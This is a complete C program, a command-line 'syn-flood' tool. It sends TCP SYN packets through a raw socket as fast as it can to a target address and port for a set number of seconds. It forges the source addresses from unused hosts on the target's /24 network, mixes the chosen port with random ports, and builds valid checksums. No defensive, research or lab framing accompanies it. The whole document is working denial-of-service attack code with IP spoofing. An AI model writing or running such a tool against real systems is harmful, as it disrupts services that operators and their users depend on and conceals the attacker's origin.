// Connections that are begun and never meant.
//   syn-flood ADDRESS PORT SECONDS [OWN]
// Sends SYNs as fast as it can: every other one to PORT, the rest to any port; every other one as from OWN, if that is given, the
// rest from addresses of the same network (/24) that nobody has. Prints how many.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

static unsigned noise(void)
{
	static uint32_t state = 0x9e3779b9;
	state ^= state << 13;
	state ^= state >> 17;
	return state ^= state << 5;
}

static uint16_t checksum(const void *data, size_t size, uint32_t sum)
{
	for (const uint16_t *word = data; size > 1; size -= 2)
		sum += *word++;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct in_addr own = { 0 };
	if (argc < 4 || !inet_aton(argv[1], &to.sin_addr) || (argc > 4 && !inet_aton(argv[4], &own)))
		return fprintf(stderr, "syn-flood ADDRESS PORT SECONDS [OWN]\n"), 2;
	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0)
		return perror("socket"), 1;
	unsigned port = atoi(argv[2]);
	unsigned long sent = 0, refused = 0;
	for (time_t end = time(NULL) + atoi(argv[3]); time(NULL) < end;) {
		struct {
			struct iphdr ip;
			struct tcphdr tcp;
		} packet = { .ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP } };
		packet.ip.tot_len = htons(sizeof packet);
		packet.ip.daddr = to.sin_addr.s_addr;
		uint32_t network = ntohl(to.sin_addr.s_addr) & 0xffffff00;
		packet.ip.saddr = own.s_addr && sent % 4 < 2 ? own.s_addr : htonl(network | (100 + noise() % 100));
		packet.tcp.source = htons(1024 + noise() % 60000);
		packet.tcp.dest = htons(sent % 2 ? port : 1 + noise() % 65535);
		packet.tcp.seq = noise();
		packet.tcp.doff = 5;
		packet.tcp.syn = 1;
		packet.tcp.window = htons(65535);
		// The pseudo header: both addresses, the protocol, the length.
		uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof packet.tcp);
		for (const uint32_t *address = &packet.ip.saddr; address <= &packet.ip.daddr; address++)
			sum += (*address & 0xffff) + (*address >> 16);
		packet.tcp.check = checksum(&packet.tcp, sizeof packet.tcp, sum);
		if (sendto(raw, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) == sizeof packet)
			sent++;
		else
			refused++;
	}
	printf("%lu sent, %lu refused\n", sent, refused);
	return sent == 0;
}
